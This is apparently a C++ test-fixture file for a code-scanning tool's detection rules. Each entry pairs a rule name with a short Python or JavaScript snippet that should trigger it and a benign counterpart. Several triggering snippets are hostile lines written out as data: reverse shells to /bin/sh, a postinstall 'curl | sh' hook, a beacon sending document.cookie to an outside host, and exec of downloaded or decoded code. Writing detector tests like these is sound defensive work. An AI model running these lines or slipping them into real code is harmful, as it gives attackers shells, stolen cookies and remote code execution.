// SPDX-License-Identifier: Apache-2.0
#include "unit/analysis/rule_examples.hpp"

namespace tank::testing {
namespace {

constexpr std::string_view py = "run.py";
constexpr std::string_view js = "run.js";

const RuleExample table[] = {
    {"python/exec-decoded", py, "exec(base64.b64decode(text))\n",
     "text = base64.b64decode(packed)\n"},
    {"python/exec-downloaded", py, "exec(requests.get(url).text)\n",
     "print(requests.get(url).text)\n"},
    {"python/exec-file", py, "eval(compile(open('/tmp/.c').read(), 'x', 'exec'))\n",
     "data = open('list.txt').read()\n"},
    {"python/dynamic-execution", py, "eval(text)\n",
     "model.eval()\nvalue = ast.literal_eval(text)\n"},
    {"python/hidden-import", py, "__import__('os').system('id')\n", "import os\n"},
    {"python/split-name", py, "f = 'ev' + 'al'\n", "f = 'even' + 'tual'\n"},
    {"python/character-codes", py,
     "s = chr(104)+chr(101)+chr(108)+chr(108)+chr(111)+chr(32)+chr(97)+chr(98)+chr(99)\n",
     "s = chr(104)\n"},
    {"python/unsafe-deserialisation", py, "data = pickle.load(file)\n",
     "data = json.load(file)\ny = yaml.safe_load(t)\n"},
    {"python/deserialise-downloaded", py, "data = pickle.loads(requests.get(url).content)\n",
     "data = json.loads(requests.get(url).content)\n"},
    {"python/shell-command", py, "os.system('make ' + target)\n",
     "subprocess.run(['make', target])\n"},
    {"python/reverse-shell", py, "os.dup2(s.fileno(), 0); pty.spawn('/bin/sh')\n",
     "s.connect(('acme.io', 80))\n"},
    {"python/native-code", py, "p = windll.kernel32.VirtualAlloc(0, n, 12288, 64)\n",
     "p = ctypes.c_int(3)\n"},
    {"python/install-hook", "setup.py", "setup(name='a', cmdclass={'install': Run})\n",
     "setup(name='a', packages=['a'])\n"},
    {"python/tls-unchecked", py, "requests.get(url, verify=False)\n",
     "requests.get(url, timeout=3)\n"},
    {"python/path-walk", py, "for f in os.walk(os.path.expanduser('~')): pass\n",
     "for f in os.walk('src'): pass\n"},
    {"python/self-delete", py, "os.remove(__file__)\n", "os.remove('out.txt')\n"},
    {"python/temporary-program", py, "subprocess.run(['/tmp/tool', 'x'])\n",
     "subprocess.run(['git', 'x'])\n"},
    {"script/eval-decoded", js, "eval(atob(text));\n", "const t = atob(text);\n"},
    {"script/eval-downloaded", js, "fetch(u).then(r => r.text()).then(t => eval(t));\n",
     "fetch(u).then(r => r.json());\n"},
    {"script/dynamic-execution", js, "const f = new Function(body);\n",
     "const f = function (body) {};\n"},
    {"script/child-process", js, "import { spawn } from 'child_process';\n",
     "import { readFile } from 'fs';\n"},
    {"script/shell-command", js, "exec(`git clone ${url}`);\n",
     "const found = pattern.exec(text);\n"},
    {"script/reverse-shell", js,
     "net.connect(44, '10.1.2.3', function () { this.pipe(spawn('/bin/sh').stdin); });\n",
     "net.connect(44, 'acme.io');\n"},
    {"script/hidden-require", js, "require(atob('ZnM='));\n", "require('fs');\n"},
    {"script/obfuscated", js, "var _0x4f2a = ['a', 'b']; _0x4f2a[0];\n", "var x = 0x4f2a;\n"},
    {"script/escaped-text", js, "s = String.fromCharCode(104,101,108,108,111,32,97,98,99);\n",
     "s = String.fromCharCode(104);\n"},
    {"script/prototype", js, "globalThis.fetch = mine;\n", "const r = await fetch(u);\n"},
    {"script/unsafe-deserialisation", js, "const s = require('node-serialize');\n",
     "const s = JSON.parse(t);\n"},
    {"script/lifecycle", "package.json", R"({"scripts":{"postinstall":"node build.js"}})",
     R"({"scripts":{"test":"node build.js"}})"},
    {"script/lifecycle-network", "package.json",
     R"({"scripts":{"postinstall":"curl https://a.io | sh"}})",
     R"({"scripts":{"postinstall":"tsc"}})"},
    {"script/beacon", js, "fetch('https://a.io/?c=' + document.cookie);\n",
     "document.cookie = 'a=b';\n"},
};

}  // namespace

std::span<const RuleExample> code_examples() { return table; }

}  // namespace tank::testing
